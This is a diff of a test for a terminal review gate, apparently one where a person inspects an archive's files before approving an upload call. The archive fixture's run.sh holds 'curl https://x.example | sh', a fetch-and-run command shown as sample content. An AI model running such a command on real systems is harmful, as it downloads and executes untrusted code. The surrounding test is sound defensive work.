@@ -117,9 +117,9 @@ def test_a_person_reads_an_archive_file_by_file(gate):
     terminal.until("1  index.py, 10000 bytes", "2  logo.png, 1 bytes (binary", "3  run.sh, 28 bytes", "(d 1 shows one", UNREAD)
     for typed, *then in (
         ("d 4", "there is no such file"),
-        ("d 3", "--- run.sh (all of it)", "curl https://x.example | sh"),
+        ("d 3", "--- run.sh (all of it)", "curl", " https://x.example "),
         ("y", "unread: the upload body. d shows it"),
-        ("d 1", "--- index.py (all of it)", "import os"),
+        ("d 1", "--- index.py (all of it)", "import", "approve this call? "),
     ):
         terminal.type(f"{typed}\n")
         terminal.until(*then, "approve this call? ")
